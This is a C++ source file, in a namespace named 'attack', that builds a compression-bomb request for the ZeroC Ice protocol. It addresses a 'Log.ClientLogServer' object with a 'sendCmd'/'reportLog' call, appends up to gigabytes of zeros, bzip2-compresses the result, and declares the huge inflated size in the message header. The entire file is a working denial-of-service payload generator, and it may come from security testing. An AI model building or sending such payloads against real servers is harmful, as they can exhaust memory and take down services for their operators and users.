#include "iceRequestBomb.h"

#include <bzlib.h>

#include <limits>
#include <vector>

namespace attack {
namespace {

void putInt(std::string& out, uint32_t v) {
    for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
}

// Ice's size: one byte below 255, else 255 and four bytes.
void putSize(std::string& out, uint32_t v) {
    if (v < 255) {
        out.push_back(static_cast<char>(v));
    } else {
        out.push_back(static_cast<char>(255));
        putInt(out, v);
    }
}

void putString(std::string& out, const std::string& s) {
    putSize(out, static_cast<uint32_t>(s.size()));
    out += s;
}

// The body up to the data's bytes.
std::string bodyPrefix(uint32_t dataBytes, int requestId) {
    std::string params;
    putInt(params, 11047);  // cmdId
    putString(params, "");  // json
    putSize(params, dataBytes);
    const uint32_t encapsulation = static_cast<uint32_t>(6 + params.size()) + dataBytes;

    std::string body;
    putInt(body, static_cast<uint32_t>(requestId));
    putString(body, "Log.ClientLogServer");  // identity name
    putString(body, "");                     // identity category
    putSize(body, 0);                        // facet
    putString(body, "sendCmd");
    body.push_back(0);  // normal mode
    putSize(body, 1);   // context
    putString(body, "cmdType");
    putString(body, "reportLog");
    putInt(body, encapsulation);
    body.push_back(1);
    body.push_back(1);
    return body + params;
}

// Feeds in to the compressor with the given action, appending what comes out.
bool compress(bz_stream& bz, const char* in, size_t size, int action, std::string& out) {
    std::vector<char> buf(1 << 16);
    bz.next_in = const_cast<char*>(in);
    bz.avail_in = static_cast<unsigned>(size);
    for (;;) {
        bz.next_out = buf.data();
        bz.avail_out = static_cast<unsigned>(buf.size());
        const int rc = BZ2_bzCompress(&bz, action);
        out.append(buf.data(), buf.size() - bz.avail_out);
        if (rc == BZ_STREAM_END) return true;
        if (rc != BZ_RUN_OK && rc != BZ_FLUSH_OK && rc != BZ_FINISH_OK) return false;
        if (action == BZ_RUN && bz.avail_in == 0) return true;
    }
}

}  // namespace

std::string IceRequestBomb::build(uint64_t dataBytes, int requestId) {
    if (dataBytes > std::numeric_limits<uint32_t>::max() - (1u << 16)) return {};
    const std::string prefix = bodyPrefix(static_cast<uint32_t>(dataBytes), requestId);
    const uint64_t inflated = kHeaderBytes + prefix.size() + dataBytes;
    if (inflated > static_cast<uint64_t>(std::numeric_limits<int32_t>::max())) return {};

    bz_stream bz{};
    if (BZ2_bzCompressInit(&bz, 9, 0, 30) != BZ_OK) return {};
    std::string compressed;
    bool ok = compress(bz, prefix.data(), prefix.size(), BZ_RUN, compressed);
    const std::vector<char> zeros(1 << 20, 0);
    for (uint64_t left = dataBytes; ok && left > 0;) {
        const size_t n = left < zeros.size() ? static_cast<size_t>(left) : zeros.size();
        ok = compress(bz, zeros.data(), n, BZ_RUN, compressed);
        left -= n;
    }
    ok = ok && compress(bz, nullptr, 0, BZ_FINISH, compressed);
    BZ2_bzCompressEnd(&bz);
    if (!ok) return {};

    std::string message = {'I', 'c', 'e', 'P', 1, 0, 1, 0, 0, 2};
    putInt(message, static_cast<uint32_t>(kHeaderBytes + 4 + compressed.size()));
    putInt(message, static_cast<uint32_t>(inflated));
    return message + compressed;
}

}  // namespace attack
